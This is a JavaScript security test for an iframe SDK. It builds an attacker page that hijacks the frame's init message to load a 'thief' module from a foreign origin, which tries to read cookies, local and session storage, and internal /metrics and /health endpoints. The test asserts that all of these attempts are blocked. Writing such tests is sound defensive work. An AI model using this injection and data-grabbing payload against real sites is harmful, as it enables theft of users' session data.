import assert from 'node:assert/strict';
import { test } from 'node:test';
import { base, html, open } from './support/browser.mjs';

const stranger = 'https://stranger.test';

/** Tells the page around it what it can reach. */
const thief = `
  const attempt = async (reach) => {
    try {
      return String(await reach());
    } catch (error) {
      return error.name;
    }
  };
  const read = (path) => async () => (await (await fetch('${base}' + path)).text()).slice(0, 40);
  export async function Thief() {
    parent.postMessage({
      found: {
        origin: self.origin,
        storage: await attempt(() => localStorage.length),
        session: await attempt(() => sessionStorage.length),
        cookies: await attempt(() => document.cookie),
        metrics: await attempt(read('/metrics')),
        health: await attempt(read('/health')),
        window: await attempt(() => open('${base}/')?.document.title),
      },
    }, '*');
  }`;

/** What a page does that wants its own module to run as the server's. */
const attack = `
  <link rel="icon" href="data:,">
  <script>
    addEventListener('message', ({ source, data }) => {
      if (data.found) window.found = data.found;
      if (data.type !== 'ixp-frame-ready') return;
      const { port1, port2 } = new MessageChannel();
      window.port = port1;
      const record = {
        url: '${stranger}/thief.js',
        exportName: 'Thief',
        props: {},
        component: { name: 'Thief', framework: 'vanilla' },
      };
      source.postMessage(
        { type: 'ixp-frame-init', apiBase: '${base}/ixp', record, ids: {}, theme: null, context: {} },
        '*',
        [port2],
      );
    });
  </script>`;

for (const attributes of ['', 'sandbox="allow-scripts allow-same-origin allow-popups"'])
  test(`a module in the frame is of no origin although the page says <iframe ${attributes}>`, async (t) => {
    const page = await open(t, `${stranger}/page`, {
      permissions: ['local-network-access'],
      expected: [/CORS policy/, /ERR_FAILED/, /Blocked opening/],
      routes: {
        [`${stranger}/page`]: html(`${attack}<iframe ${attributes} src="${base}/ixp/sdk/frame"></iframe>`),
        [`${stranger}/thief.js`]: {
          contentType: 'text/javascript',
          headers: { 'Access-Control-Allow-Origin': '*' },
          body: thief,
        },
      },
    });
    const found = await (await page.waitForFunction(() => window.found)).jsonValue();
    assert.deepEqual(found, {
      origin: 'null',
      storage: 'SecurityError',
      session: 'SecurityError',
      cookies: 'SecurityError',
      metrics: 'TypeError',
      health: 'TypeError',
      window: 'undefined',
    });
  });
